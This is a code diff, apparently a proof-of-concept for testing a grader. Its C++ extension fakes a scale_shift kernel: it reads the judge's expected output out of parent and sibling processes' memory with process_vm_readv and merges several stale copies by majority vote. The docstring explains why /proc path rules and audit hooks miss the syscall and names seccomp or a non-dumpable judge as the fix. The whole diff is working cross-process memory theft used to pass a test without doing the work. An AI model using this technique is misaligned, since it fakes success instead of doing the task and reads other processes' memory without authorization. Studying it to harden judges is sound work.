@@ -3,11 +3,12 @@
 The same search as proc_mem_scan.py without opening any file under /proc/<pid>/mem: the memory of
 itself, its parent, grandparent and siblings is read with the `process_vm_readv` system call (one
 iovec per 1 MiB chunk of each private writable mapping listed in /proc/<pid>/maps), looking, at
-the 64-byte alignment of PyTorch's CPU allocator, for the first elements of 2x + 1 for this input.
-It copies `numel` floats from the first hit; with no hit it returns zeros, so a pass proves the
-theft. `process_vm_readv` needs only PTRACE_MODE_ATTACH_REALCREDS over the target: the same user
-and a dumpable target, or CAP_SYS_PTRACE; a path-based rule on /proc (or an audit hook) never sees
-it, only a seccomp filter on the syscall or a non-dumpable judge stops it."""
+the 64-byte alignment of PyTorch's CPU allocator, for the first elements of 2x + 1 for this input;
+up to five hits are merged element by element by majority (stale, partly reused copies sit beside
+the live one). With no hit it returns zeros, so a pass proves the theft. `process_vm_readv` needs
+only PTRACE_MODE_ATTACH_REALCREDS over the target: the same user and a dumpable target, or
+CAP_SYS_PTRACE; a path-based rule on /proc (or an audit hook) never sees it, only a seccomp filter
+on the syscall or a non-dumpable judge (with no CAP_SYS_PTRACE on the reader's side) stops it."""
 
 import torch
 from torch.utils.cpp_extension import load_inline
@@ -18,6 +19,7 @@ SOURCE = r"""
 #include <fcntl.h>
 #include <sys/uio.h>
 #include <unistd.h>
+#include <algorithm>
 #include <cmath>
 #include <cstdio>
 #include <cstring>
@@ -97,34 +99,60 @@ bool matches(int fd, uintptr_t addr, const float* chunk, const float* want, int6
     return true;
 }
 
-// The address in `region` of the expected output, or 0.
-uintptr_t scan(int fd, Region region, const float* want, int64_t k) {
+const size_t kMaxHits = 5;
+
+// Every address in `region` holding the signature (not `own`), added to `hits`, up to kMaxHits.
+void scan(int fd, Region region, const float* want, int64_t k, uintptr_t own, std::vector<uintptr_t>& hits) {
     const size_t chunk_bytes = 1 << 20;
     std::vector<float> chunk(chunk_bytes / sizeof(float));
-    for (uintptr_t at = region.start; at < region.end; at += chunk_bytes) {
+    for (uintptr_t at = region.start; at < region.end && hits.size() < kMaxHits; at += chunk_bytes) {
         size_t len = std::min<size_t>(chunk_bytes, region.end - at);
         ssize_t got = read_at(fd, chunk.data(), len, at);
         if (got <= 0) continue;
-        for (size_t off = 0; off + sizeof(float) <= static_cast<size_t>(got); off += 64)
-            if (matches(fd, at + off, chunk.data() + off / sizeof(float), want, k)) return at + off;
+        for (size_t off = 0; off + sizeof(float) <= static_cast<size_t>(got) && hits.size() < kMaxHits; off += 64) {
+            uintptr_t addr = at + off;
+            if (addr != own && std::find(hits.begin(), hits.end(), addr) == hits.end() &&
+                matches(fd, addr, chunk.data() + off / sizeof(float), want, k))
+                hits.push_back(addr);
+        }
     }
-    return 0;
 }
 
-bool steal(pid_t pid, const float* want, int64_t k, void* out, size_t nbytes) {
+// Per element, the value most copies agree on. Besides the live expected output there are stale
+// copies (freed memory, partly reused: a few wrong values each, in different places).
+void consensus(const std::vector<std::vector<float>>& copies, float* out, size_t n) {
+    for (size_t i = 0; i < n; ++i) {
+        size_t best = 0;
+        int best_votes = -1;
+        for (size_t a = 0; a < copies.size(); ++a) {
+            int votes = 0;
+            for (const auto& other : copies) votes += std::memcmp(&copies[a][i], &other[i], sizeof(float)) == 0;
+            if (votes > best_votes) best = a, best_votes = votes;
+        }
+        out[i] = copies[best][i];
+    }
+}
+
+bool steal(pid_t pid, const float* want, int64_t k, const void* own, void* out, size_t nbytes) {
     int fd = pid;
     std::vector<Region> regions = writable_private_regions(pid);
     if (g_hint.pid == pid) regions.insert(regions.begin(), g_hint.region);
-    bool ok = false;
+    std::vector<uintptr_t> hits;
+    Region first{0, 0};
     for (const Region& r : regions) {
-        uintptr_t at = scan(fd, r, want, k);
-        if (at != 0 && read_remote(fd, at, out, nbytes)) {
-            g_hint = {pid, r};
-            ok = true;
-            break;
-        }
+        scan(fd, r, want, k, reinterpret_cast<uintptr_t>(own), hits);
+        if (!hits.empty() && first.end == 0) first = r;
+        if (hits.size() >= kMaxHits) break;
     }
-    return ok;
+    std::vector<std::vector<float>> copies;
+    for (uintptr_t at : hits) {
+        std::vector<float> copy(nbytes / sizeof(float));
+        if (read_remote(fd, at, copy.data(), nbytes)) copies.push_back(std::move(copy));
+    }
+    if (copies.empty()) return false;
+    consensus(copies, static_cast<float*>(out), nbytes / sizeof(float));
+    g_hint = {pid, first};
+    return true;
 }
 
 }  // namespace
@@ -140,7 +168,7 @@ torch::Tensor scale_shift(torch::Tensor x) {
     std::vector<pid_t> pids = targets();
     if (g_hint.pid != 0) pids.insert(pids.begin(), g_hint.pid);
     for (pid_t pid : pids)
-        if ((stolen = steal(pid, want, k, y.data_ptr(), x.nbytes()))) break;
+        if ((stolen = steal(pid, want, k, y.data_ptr(), y.data_ptr(), x.nbytes()))) break;
     if (!stolen) std::memset(y.data_ptr(), 0, x.nbytes());  // no theft, no answer
     return y;
 }
